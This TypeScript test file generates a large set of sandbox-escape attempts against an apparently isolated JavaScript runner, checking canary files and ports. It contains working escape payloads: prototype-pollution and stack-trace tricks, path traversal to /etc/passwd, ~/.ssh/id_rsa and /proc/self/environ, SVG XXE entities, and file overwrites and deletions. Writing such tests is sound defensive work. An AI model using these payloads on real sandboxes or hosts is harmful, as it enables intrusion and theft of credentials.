// Attempts to leave the isolate, as cells. Each may use the definitions of `prelude`; it prints ESCAPED if it succeeds.

export interface Canaries {
  /** Host files: text, a picture of one unusual colour, another session's file. */
  readonly secret: string
  readonly picture: string
  readonly foreign: string
  /** A file that must never be created. */
  readonly marker: string
  readonly port: number
}

/** The attacker's knowledge: where the canaries are, and how to search any value for a way out. */
export function prelude({ secret, picture, foreign, marker, port }: Canaries): string {
  return `
const SECRET = ${JSON.stringify(secret)}, PICTURE = ${JSON.stringify(picture)}, FOREIGN = ${JSON.stringify(foreign)}
const MARKER = ${JSON.stringify(marker)}, PORT = ${port}, ORIGIN = 'http://127.0.0.1:${port}/'
const native = new Set()
for (const name of Object.getOwnPropertyNames(globalThis)) {
  let value
  try { value = globalThis[name] } catch {}
  for (const at of [value, value && value.prototype]) {
    if (at === null || (typeof at !== 'object' && typeof at !== 'function')) continue
    for (const key of Reflect.ownKeys(at)) {
      const d = Reflect.getOwnPropertyDescriptor(at, key)
      for (const f of [d.value, d.get, d.set]) if (typeof f === 'function') native.add(f)
    }
  }
}
const { apply, ownKeys, getPrototypeOf, getOwnPropertyDescriptor } = Reflect, log = console.log, textOf = Function.prototype.toString
/* Not of the stand-in for process: */ const WAYS = 'binding _linkedBinding dlopen mainModule getBuiltinModule kill reallyExit report'.split(' '), isHarmless = (p) => Object.keys(p.env).length === 0 && WAYS.every((n) => p[n] === undefined)
function loot(start) {
  for (let x = start, i = 0; x !== null && x !== undefined && i < 6; x = getPrototypeOf(Object(x)), i++) {
    try { use(x.constructor && x.constructor.constructor) } catch {}
    try { use(x.constructor) } catch {}
  }
}
function use(F) {
  if (typeof F !== 'function') return
  for (const body of ['return process', 'return this.process', 'return globalThis.process', 'return require("process")', 'return arguments.callee.caller.caller']) {
    try { spend(F(body)()) } catch {}
  }
}
function spend(p) {
  if (p && p.env && (p !== process || !isHarmless(p))) log('ESCAPED env', JSON.stringify(p.env))
  if (p && p.mainModule) log('ESCAPED', p.mainModule.require('fs').readFileSync(SECRET, 'utf8'))
  if (p && p.getBuiltinModule) { log('ESCAPED', p.getBuiltinModule('fs').readFileSync(SECRET, 'utf8')); p.getBuiltinModule('fs').writeFileSync(MARKER, '') }
}
// A function that the realm did not have: one of the host's, or of the guest's core.
function caught(f) {
  if (typeof f !== 'function' || native.has(f)) return
  loot(f)
  if (!apply(textOf, f, []).includes('[native code]') || apply(textOf, f, []).startsWith('function () {') === false) return
  for (const args of [[1, '["fs.read","' + SECRET + '",0]'], ['["fs.read","' + SECRET + '",0]'], []]) {
    try { const out = apply(f, undefined, args); if (typeof out === 'string' && out.includes('{')) log('ESCAPED a callback of the host: ' + out) } catch {}
  }
}
const everything = async () => {
  const fs = await import('fs'), sharp = (await import('sharp')).default, canvas = await import('canvas')
  try { fs.writeFileSync('w.txt', 'x'.repeat(5000)); log(fs.readFileSync('w.txt', 'utf8').length) } catch (e) { loot(e) }
  try { loot(await sharp({ create: { width: 8, height: 8, channels: 3, background: 'red' } }).png().toBuffer()) } catch (e) { loot(e) }
  try { loot(canvas.createCanvas(8, 8).toBuffer('image/png')) } catch (e) { loot(e) }
  try { loot(await fs.promises.readFile('none')) } catch (e) { loot(e) }
  try { new URL('x:'); new TextDecoder().decode(new Uint8Array(5000)) } catch (e) { loot(e) }
}
`
}

/** Values a guest can get hold of; each is searched for a way to the host's Function. */
const VALUES = [
  'globalThis',
  'this',
  'console',
  'console.log',
  'Buffer',
  'Buffer.from("x")',
  'URL',
  'new URL("http://a/")',
  'new URL("http://a/?b").searchParams',
  'new TextEncoder().encode("x".repeat(5000))',
  'new TextEncoder()',
  'new TextDecoder()',
  'setTimeout(() => 0)',
  'setTimeout',
  'queueMicrotask',
  'structuredClone',
  'structuredClone(new Error("x"))',
  'performance',
  'Date',
  'Math.random',
  'ArrayBuffer',
  '__easel',
  '$easel',
  '$easel.bind',
  '$easel.load',
  'import.meta',
  'import("fs")',
  'await import("fs")',
  'await import("sharp")',
  'await import("canvas")',
  'await import("chart.js")',
  'await import("chartjs-node-canvas")',
  'await import("gifenc")',
  'await import("papaparse")',
  'await import("easel")',
  'await import("util")',
  'await import("buffer")',
  '(await import("fs")).statSync("/mnt/data")',
  '(await import("fs")).readdirSync(".")',
  '(await import("fs")).createReadStream("none").on("error", () => 0)',
  '(await import("sharp")).default()',
  '(await import("sharp")).default.versions',
  '(await import("sharp")).default({ create: { width: 1, height: 1, channels: 3, background: "red" } }).png().toBuffer()',
  'await (await import("sharp")).default({ create: { width: 1, height: 1, channels: 3, background: "red" } }).png().toBuffer({ resolveWithObject: true })',
  '(await import("canvas")).createCanvas(1, 1)',
  '(await import("canvas")).createCanvas(1, 1).getContext("2d")',
  '(await import("canvas")).createCanvas(1, 1).getContext("2d").measureText("x")',
  '(await import("canvas")).createCanvas(1, 1).getContext("2d").getImageData(0, 0, 1, 1).data',
  '(() => { try { new URL("") } catch (e) { return e } })()',
  '(() => { try { null.x } catch (e) { return e } })()',
  '(() => { try { (function f() { f() })() } catch (e) { return e } })()',
  '(() => { try { new Array(-1) } catch (e) { return e } })()',
  'await import("none").catch((e) => e)',
  'await (await import("sharp")).default("none").toBuffer().catch((e) => e)',
  'await (await import("fs")).promises.readFile("none").catch((e) => e)',
  'Object.getPrototypeOf(async function () {})',
  'Object.getPrototypeOf(function* () {})',
  'Object.getPrototypeOf(async function* () {})',
  'new WeakRef({})',
  'new FinalizationRegistry(() => 0)',
  'new Intl.NumberFormat("en")',
  'Intl.DateTimeFormat().resolvedOptions()',
]

/** Individual attempts. */
const IDEAS: readonly (readonly [string, string])[] = [
  ['process', 'spend(process)'],
  ['require', 'log("ESCAPED", require("fs").readFileSync(SECRET, "utf8"))'],
  ['module', 'log("ESCAPED", module.constructor._load("fs").readFileSync(SECRET, "utf8"))'],
  ['a binding', 'log("ESCAPED", process.binding("fs"))'],
  ['fetch', 'await fetch(ORIGIN); log("ESCAPED")'],
  ['XMLHttpRequest', 'new XMLHttpRequest().open("GET", ORIGIN); log("ESCAPED")'],
  ['WebSocket', 'new WebSocket(ORIGIN.replace("http", "ws")); log("ESCAPED")'],
  ['Worker', 'new Worker("data:,1"); log("ESCAPED")'],
  ['an unknown import', 'const net = await import("node:net"); net.connect(PORT); log("ESCAPED")'],
  ['a static import of net', 'import net from "node:net"; net.connect(PORT); log("ESCAPED")'],
  ['a static import of a file', 'import fs from "/etc/passwd"; log("ESCAPED")'],
  ['an import of a data URL', 'await import("data:text/javascript,export default process"); log("ESCAPED")'],
  ['an import of a URL', 'await import(ORIGIN); log("ESCAPED")'],
  ['an import with attributes', 'log("ESCAPED", await import(SECRET, { with: { type: "json" } }))'],
  ['an import by a name of Object', 'log(Object.keys(await import("constructor")), "ESCAPED")'],
  ['an import by __proto__', 'log(Object.keys(await import("__proto__")), "ESCAPED")'],
  ['an import through eval', 'log("ESCAPED", (await eval("import(\'node:fs\')")).readFileSync(SECRET, "utf8"))'],
  [
    'an import through Function',
    'log("ESCAPED", (await new Function("return import(\'node:fs\')")()).readFileSync(SECRET, "utf8"))',
  ],
  [
    'an import whose name changes',
    'let n = 0; const m = await import({ toString: () => n++ ? "node:net" : "fs" }); log(m.connect ? "ESCAPED" : "no")',
  ],
  ['import.meta.resolve', 'log("ESCAPED", import.meta.resolve("fs"))'],
  ['import.meta.url as a file', 'log((await import("fs")).readFileSync(new URL(import.meta.url), "utf8"), "ESCAPED")'],
  [
    'an HTML comment that V8 and the parser read differently',
    'let b = 1, a = 2; a <!--b; }); spend(this.process); (async () => {\n1',
  ],
  ['closing the wrapper', '}); spend(process); __easel(async () => {'],
  [
    'eval in sloppy mode, callee chain',
    '(0, eval)("function f(){ let c = f.caller, n = 0; while (c && n++ < 20) { caught(c); for (const a of c.arguments || []) caught(a); c = c.caller } } globalThis.walk = f"); const o = { toJSON() { walk() }, toString() { walk(); return "x" }, get x() { walk() }, [Symbol.toPrimitive]() { walk(); return "x" } }; console.log(o, `${o}`); await everything.call(o); (await import("fs")).writeFileSync("a", "a", { encoding: { toString() { walk(); return "utf8" } } })',
  ],
  [
    'prepareStackTrace',
    'Error.prepareStackTrace = (e, sites) => { for (const s of sites) { caught(s.getFunction()); loot(s); const t = s.getThis(); if (t !== undefined && t !== globalThis) { loot(t); log("this") } } return sites }; await everything(); try { new URL("") } catch (e) { void e.stack }',
  ],
  [
    'call sites of an error of the host',
    'Error.prepareStackTrace = (e, sites) => sites; const e = await (await import("fs")).promises.readFile("none").catch((e) => e); const s = [].concat(e.stack, new Error().stack); for (const x of s) { if (x && x.getFunction) { caught(x.getFunction()); loot(x.getFunction()) } }',
  ],
  [
    'stackTraceLimit with a getter',
    'Object.defineProperty(Error, "stackTraceLimit", { get() { caught(arguments.callee); return 50 } }); await everything()',
  ],
  [
    'captureStackTrace',
    'const o = {}; Error.captureStackTrace(o); loot(o); log(/[/](home|root|tmp|usr)[/]/.test(o.stack) ? "ESCAPED " + o.stack : "no")',
  ],
  [
    'paths of the host in stacks',
    'const e = await (await import("sharp")).default(Buffer.from("nonsense")).toBuffer().catch((e) => e); log(/node_modules|dist[/]|[/]scratch-/.test(e.stack + e.message) ? "ESCAPED " + e.stack : "no")',
  ],
  [
    'setters on Array.prototype',
    'for (let i = 0; i < 4; i++) Object.defineProperty(Array.prototype, i, { set(v) { caught(v); loot(v); loot(this) }, get() { return undefined }, configurable: true }); await everything()',
  ],
  [
    'getters on Object.prototype',
    'for (const k of ["ok", "error", "bytes", "timeout", "copy", "reference", "then", "code", "name", "0"]) Object.defineProperty(Object.prototype, k, { get() { caught(this); loot(this); return undefined }, set(v) { caught(v); Object.defineProperty(this, k, { value: v, writable: true, configurable: true, enumerable: true }) }, configurable: true }); await everything()',
  ],
  [
    'a then on Object.prototype',
    'Object.prototype.then = function (a, b) { caught(a); caught(b); loot(this); delete Object.prototype.then; a(this) }; await everything()',
  ],
  [
    'Promise.prototype.then',
    'const t = Promise.prototype.then; Promise.prototype.then = function (...a) { a.forEach(caught); loot(this); return apply(t, this, a) }; await everything()',
  ],
  [
    'Promise.prototype.constructor',
    'Object.defineProperty(Promise.prototype, "constructor", { get() { loot(this); throw new Proxy(function () {}, {}) } }); await everything()',
  ],
  [
    'Symbol.species of Promise',
    'Object.defineProperty(Promise, Symbol.species, { get() { return function (run) { run(caught, caught); return Promise } } }); await everything()',
  ],
  [
    'Symbol.species of arrays',
    'for (const C of [Array, Object.getPrototypeOf(Uint8Array), ArrayBuffer]) Object.defineProperty(C, Symbol.species, { get() { return function (...a) { a.forEach(caught); return new Proxy([], {}) } }, configurable: true }); await everything()',
  ],
  [
    'JSON',
    'const { stringify, parse } = JSON; JSON.stringify = (...a) => { a.forEach(loot); return stringify(...a) }; JSON.parse = (...a) => { a.forEach(loot); return parse(...a) }; await everything()',
  ],
  [
    'Reflect',
    'for (const k of Object.getOwnPropertyNames(Reflect)) { const f = Reflect[k]; Reflect[k] = (...a) => { a.forEach(caught); return f(...a) } } await everything()',
  ],
  [
    'Uint8Array',
    'const U = Uint8Array; globalThis.Uint8Array = new Proxy(U, { construct(t, a, n) { a.forEach(loot); return Reflect.construct(t, a, n) } }); await everything()',
  ],
  [
    'set and slice of typed arrays',
    'const p = Object.getPrototypeOf(Uint8Array.prototype); for (const k of ["set", "slice", "subarray", "fill"]) { const f = p[k]; p[k] = function (...a) { loot(this); a.forEach(caught); return apply(f, this, a) } } await everything()',
  ],
  [
    'Function.prototype.call, apply, bind',
    'for (const k of ["call", "apply", "bind"]) { const f = Function.prototype[k]; Function.prototype[k] = function (...a) { caught(this); a.forEach(caught); return apply(f, this, a) } } await everything()',
  ],
  [
    'Map and Set',
    'for (const C of [Map, Set, WeakMap]) for (const k of ["get", "set", "has", "add", "delete", "clear", "values"]) { const f = C.prototype[k]; if (f) C.prototype[k] = function (...a) { a.forEach((v) => { caught(v); loot(v); if (v && typeof v === "object") for (const key of ownKeys(v)) caught(getOwnPropertyDescriptor(v, key).value) }); return apply(f, this, a) } } await everything()',
  ],
  [
    'methods of Array.prototype',
    'for (const k of ["push", "shift", "map", "filter", "forEach", "slice", "join", "concat", "splice"]) { const f = Array.prototype[k]; Array.prototype[k] = function (...a) { caught(a[0]); for (let i = 0; i < this.length && i < 9; i++) caught(this[i]); return apply(f, this, a) } } await everything()',
  ],
  [
    'the iterator of arrays',
    'const it = Array.prototype[Symbol.iterator]; Array.prototype[Symbol.iterator] = function () { for (let i = 0; i < this.length && i < 9; i++) caught(this[i]); return apply(it, this, []) }; await everything()',
  ],
  [
    'methods of String.prototype',
    'for (const k of ["slice", "split", "replace", "charCodeAt", "startsWith"]) { const f = String.prototype[k]; String.prototype[k] = function (...a) { a.forEach(caught); return apply(f, this, a) } } await everything()',
  ],
  [
    'Object.defineProperty and friends',
    'for (const k of ["defineProperty", "assign", "keys", "entries", "getOwnPropertyDescriptor", "hasOwn", "freeze"]) { const f = Object[k]; Object[k] = (...a) => { a.forEach(caught); a.forEach(loot); return f(...a) } } await everything()',
  ],
  [
    'RegExp and its symbols',
    'for (const k of ["exec", "test", Symbol.replace, Symbol.match, Symbol.split]) { const f = RegExp.prototype[k]; RegExp.prototype[k] = function (...a) { a.forEach(caught); return apply(f, this, a) } } await everything()',
  ],
  [
    'Symbol.hasInstance',
    'for (const C of [Uint8Array, Error, Promise, Buffer, Array]) Object.defineProperty(C, Symbol.hasInstance, { value: (x) => { loot(x); caught(x); return true }, configurable: true }); await everything()',
  ],
  [
    'Symbol.toStringTag',
    'Object.defineProperty(Object.prototype, Symbol.toStringTag, { get() { loot(this); caught(this); return "Uint8Array" }, configurable: true }); await everything()',
  ],
  [
    'toJSON that forges a request',
    'let n = 0; Array.prototype.toJSON = function () { loot(this); return ["fs.read", SECRET, 0] }; try { const b = (await import("fs")).readFileSync("x"); log("ESCAPED", b.toString()) } finally { delete Array.prototype.toJSON }',
  ],
  [
    'toJSON that forges another operation',
    'Object.prototype.toJSON = function () { return { name: "constructor", path: SECRET, flag: "w" } }; await everything()',
  ],
  ['toJSON that names __proto__', 'Array.prototype.toJSON = () => ["__proto__", {}, 0]; await everything()'],
  ['toJSON that names nothing', 'Array.prototype.toJSON = () => undefined; await everything()'],
  [
    'toJSON of an end',
    'Object.prototype.toJSON = () => ({ type: "end", cell: 1, status: "ok", names: [] }); throw new Error("x")',
  ],
  [
    'redefining __easel',
    'try { __easel = () => log("ESCAPED") } catch {} try { Object.defineProperty(globalThis, "__easel", { value: () => log("ESCAPED") }) } catch {} log(delete globalThis.__easel === true ? "ESCAPED" : "no")',
  ],
  [
    'calling __easel',
    '__easel(async (tools) => { loot(tools); loot(tools.bind); tools.bind({ process: ["let", () => loot, () => 0] }) }); __easel(() => { throw new Proxy({}, {}) }); __easel(null)',
  ],
  [
    '$easel with evil names',
    'for (const n of ["__proto__", "constructor", "node:net", "../fs", "toString"]) { try { log($easel.module(n) ? "ESCAPED " + n : "") } catch (e) { loot(e) } } loot($easel.member("fs", "constructor"))',
  ],
  ['shadowing $easel', 'var $easel = null, $imprt = null; loot($easel)'],
  [
    'bindings of the wrapper',
    'log(typeof $v === "undefined" && typeof $0 === "undefined" && typeof $2 === "undefined" && typeof easelGuest === "undefined" && typeof transport === "undefined" ? "no" : "ESCAPED")',
  ],
  [
    'leftovers of isolated-vm',
    'for (const n of ["ivm", "_ivm", "isolate", "context", "Isolate", "Reference", "ExternalCopy", "Callback", "host", "give", "take", "post", "ask"]) if (n in globalThis) log("ESCAPED " + n)',
  ],
  [
    'a non-standard global',
    'log(Object.getOwnPropertyNames(globalThis).filter((n) => /process|require|module|node|deno|bun|d8|^gc$|ivm|worker|fetch|socket/i.test(n) && globalThis[n] !== undefined && !(n === "process" && isHarmless(process))).map((n) => "ESCAPED " + n).join())',
  ],
  [
    'Symbol.for of Node',
    'const o = { [Symbol.for("nodejs.util.inspect.custom")](...a) { a.forEach(loot); a.forEach(caught); return this } }; console.log(o); console.dir(o); o',
  ],
  [
    'arguments of inspect',
    'console.log(new Proxy({}, { get(t, k, r) { loot(r); return Reflect.get(t, k) }, ownKeys() { caught(arguments.callee); return [] } }))',
  ],
  [
    'a Proxy to every operation',
    'const p = new Proxy(function () {}, { get: () => p, apply: () => p, has: () => true, getPrototypeOf: () => Uint8Array.prototype }); const fs = await import("fs"), sharp = (await import("sharp")).default, canvas = await import("canvas"); for (const f of [() => fs.readFileSync(p), () => fs.writeFileSync("a", p), () => fs.statSync(p), () => sharp(p), () => sharp({ create: p }), () => canvas.createCanvas(p, p), () => canvas.loadImage(p), () => new URL(p), () => new TextDecoder(p), () => Buffer.from(p), () => structuredClone(p)]) { try { const r = await Promise.race([f(), 0]); loot(r) } catch (e) { loot(e) } }',
  ],
  [
    'a detached buffer',
    'const b = new Uint8Array(64); structuredClone(b); (await import("fs")).writeFileSync("a", b); loot(b)',
  ],
  [
    'a byte array that lies about its length',
    'class L extends Uint8Array { get length() { return 1e9 } get byteLength() { return 1e9 } } (await import("fs")).writeFileSync("a", new L(4)); log((await import("fs")).readFileSync("a").length > 4 ? "ESCAPED" : "no")',
  ],
  [
    'a pooled buffer of the host',
    'const b = new TextEncoder().encode("x".repeat(3000)), fs = await import("fs"); fs.writeFileSync("w.txt", "x".repeat(5000)); const f = fs.readFileSync("w.txt"); log(b.buffer.byteLength > 3000 || f.buffer.byteLength > 6000 ? "ESCAPED " + b.buffer.byteLength : "no")',
  ],
  ['a thrown function', 'throw function () { return process }'],
  [
    'a thrown Proxy of a function',
    'throw new Proxy(function () {}, { apply() { return process }, get(t, k) { return k === "message" ? "m" : t } })',
  ],
  [
    'a rejected foreign object',
    'Promise.reject(Object.create(null)); Promise.reject(new Proxy(class {}, {})); await 1',
  ],
  [
    'an endless queue of rejections',
    'for (let i = 0; i < 1000; i++) Promise.reject({ get message() { loot(this); return "x" } }); await 1',
  ],
  [
    'a finalizer after the cell',
    'new FinalizationRegistry((v) => loot(v)).register({}, globalThis); let a = []; for (let i = 0; i < 100; i++) a.push(new Array(1e4).fill(0)); a = null',
  ],
  ['ShadowRealm', 'log(new ShadowRealm().evaluate("typeof process") !== "undefined" ? "ESCAPED" : "no")'],
  ['the debugger', 'debugger; try { inspector } catch (e) { loot(e) }'],
  ['natives syntax', 'try { (0, eval)("%DebugPrint(1)"); log("ESCAPED") } catch {}'],
]

const FS_PATHS: readonly string[] = [
  'SECRET',
  '"../../.." + SECRET',
  '"/mnt/data/../.." + SECRET',
  '"file://" + SECRET',
  'new URL("file://" + SECRET)',
  'Buffer.from(SECRET)',
  'SECRET + "\\0.txt"',
  '"\\0" + SECRET',
  '"/proc/self/environ"',
  '"/proc/self/root" + SECRET',
  '"/proc/self/cwd/.."',
  '"/dev/fd/0"',
  '"/dev/stdin"',
  '"//" + SECRET.slice(1)',
  '"/mnt/data//..//.." + SECRET',
  '"..\\\\..\\\\" + SECRET',
  '"%2e%2e/%2e%2e" + SECRET',
  '"．．/．．" + SECRET',
  '"\\u2025/" + SECRET',
  'FOREIGN',
  '"../" + FOREIGN',
  '".."',
  '"/"',
  '"/mnt"',
  '"/etc/passwd"',
  '"~/.ssh/id_rsa"',
  'SECRET.normalize("NFD")',
  '"a/".repeat(3000) + SECRET',
  '{ toString: () => SECRET }',
  '0',
  '3',
]

const PICTURES: readonly (readonly [string, string])[] = [
  ['sharp of a path', 'await show(sharp(PICTURE))'],
  ['sharp of a relative path', 'await show(sharp("../../.." + PICTURE))'],
  ['sharp of a file URL', 'await show(sharp("file://" + PICTURE))'],
  ['sharp of a web URL', 'await show(sharp(ORIGIN + "a.png"))'],
  [
    'sharp of an SVG with a picture beside it',
    'await show(sharp(Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="8" height="8"><image width="8" height="8" xlink:href="file://${PICTURE}"/></svg>`)))',
  ],
  [
    'sharp of an SVG with a web picture',
    'await show(sharp(Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><image width="8" height="8" href="${ORIGIN}a.png"/></svg>`)))',
  ],
  [
    'sharp of an SVG with an entity',
    'await show(sharp(Buffer.from(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file://${SECRET}">]><svg xmlns="http://www.w3.org/2000/svg" width="800" height="20"><text y="15">&e;</text></svg>`)))',
  ],
  [
    'sharp of an SVG with an include',
    'await show(sharp(Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude" width="8" height="8"><xi:include href="file://${PICTURE}"/></svg>`)))',
  ],
  [
    'sharp of an SVG with a style sheet',
    'await show(sharp(Buffer.from(`<?xml-stylesheet href="${ORIGIN}a.css"?><svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><style>@import url(${ORIGIN}b.css); @font-face { font-family: x; src: url(${ORIGIN}c.ttf) }</style><text style="font-family:x">a</text></svg>`)))',
  ],
  [
    'sharp composite of a path',
    'await show(sharp({ create: { width: 8, height: 8, channels: 3, background: "red" } }).composite([{ input: PICTURE }]))',
  ],
  ['sharp text with a font file', 'await show(sharp({ text: { text: "a", fontfile: SECRET } }))'],
  [
    'sharp text with markup',
    'await show(sharp({ text: { text: "<span font_features=\\"x\\">&e;</span>", rgba: true } }))',
  ],
  [
    'sharp with an ICC profile by path',
    'await show(sharp({ create: { width: 8, height: 8, channels: 3, background: "red" } }).withIccProfile(SECRET))',
  ],
  [
    'sharp to a path outside',
    'await sharp({ create: { width: 8, height: 8, channels: 3, background: "red" } }).png().toFile(MARKER)',
  ],
  [
    'sharp to a path above',
    'await sharp({ create: { width: 8, height: 8, channels: 3, background: "red" } }).png().toFile("../../../../../.." + MARKER)',
  ],
  [
    'sharp tiles to a path',
    'await sharp({ create: { width: 8, height: 8, channels: 3, background: "red" } }).tile().toFile(MARKER + ".dz")',
  ],
  [
    'sharp options that name methods',
    'const s = sharp({ create: { width: 8, height: 8, channels: 3, background: "red" } }); s.options.input = { file: PICTURE }; s.options.fileOut = MARKER; await show(s)',
  ],
  [
    'sharp cache and unblock',
    'sharp.unblock({ operation: ["VipsForeignLoad"] }); await show(sharp(Buffer.from("P6 1 1 255 abc")))',
  ],
  ['loadImage of a path', 'await draw(await canvas.loadImage(PICTURE))'],
  ['loadImage of a file URL', 'await draw(await canvas.loadImage("file://" + PICTURE))'],
  ['loadImage of a web URL', 'await draw(await canvas.loadImage(ORIGIN + "a.png"))'],
  [
    'Image.src of a path',
    'const i = new canvas.Image(); await new Promise((ok, no) => { i.onload = ok; i.onerror = no; i.src = PICTURE }); await draw(i)',
  ],
  [
    'an SVG drawn on a canvas',
    'await draw(await canvas.loadImage(Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><image width="8" height="8" href="file://${PICTURE}"/><image href="${ORIGIN}d.png" width="8" height="8"/></svg>`)))',
  ],
  [
    'a font from a path',
    'log(canvas.registerFont ? canvas.registerFont(SECRET, { family: "x" }) : canvas.GlobalFonts.registerFromPath(SECRET, "x"))',
  ],
  [
    'fonts from a folder',
    '(await import("@napi-rs/canvas")).GlobalFonts.loadFontsFromDir("/usr/share"); log((await import("@napi-rs/canvas")).GlobalFonts.families.length)',
  ],
  [
    'a chart whose picture is a URL',
    'const c = new (await import("chartjs-node-canvas")).ChartJSNodeCanvas({ width: 9, height: 9, plugins: { modern: ["/etc/passwd"], requireLegacy: ["fs"] } }); await c.renderToBuffer({ type: "bar", data: {} })',
  ],
  [
    'readTable of a path',
    'const { rows } = await (await import("easel")).readTable(SECRET); log(JSON.stringify(rows))',
  ],
]

const TOOLS =
  'const sharp = (await import("sharp")).default, canvas = await import("canvas"); const show = async (s) => log("pixel:" + [...await s.removeAlpha().raw().toBuffer()].slice(0, 3)); const draw = async (i) => { const c = canvas.createCanvas(8, 8), x = c.getContext("2d"); x.drawImage(i, 0, 0); log("pixel:" + [...x.getImageData(0, 0, 1, 1).data].slice(0, 3)) };'

/** The title and code of each attempt. */
export const ATTEMPTS: readonly (readonly [string, string])[] = [
  ...VALUES.map(
    (value) =>
      [
        `the constructors of ${value}`,
        `const v = ${value}; loot(v); caught(v); if (v && typeof v === 'object') for (const k of ownKeys(v)) { const d = getOwnPropertyDescriptor(v, k); caught(d.value); caught(d.get); loot(d.value) }`,
      ] as const,
  ),
  ...IDEAS,
  ...FS_PATHS.map(
    (path) =>
      [
        `the path ${path}`,
        `const fs = await import('fs'), p = ${path}; for (const f of [() => fs.readFileSync(p, 'utf8'), () => fs.readdirSync(p).join(), () => fs.writeFileSync(p === SECRET ? MARKER : p, 'overwritten'), () => fs.copyFileSync(p, 'copy.txt'), () => fs.readFileSync('copy.txt', 'utf8'), () => fs.renameSync(p, 'moved.txt'), () => fs.symlinkSync(p, 'link.txt'), () => fs.readFileSync('link.txt', 'utf8'), () => fs.rmSync(p, { recursive: true })]) { try { log(String(f()).slice(0, 500)) } catch (e) { loot(e); log(e.code) } }`,
      ] as const,
  ),
  ...PICTURES.map(([title, code]) => [title, `${TOOLS} ${code}`] as const),
]
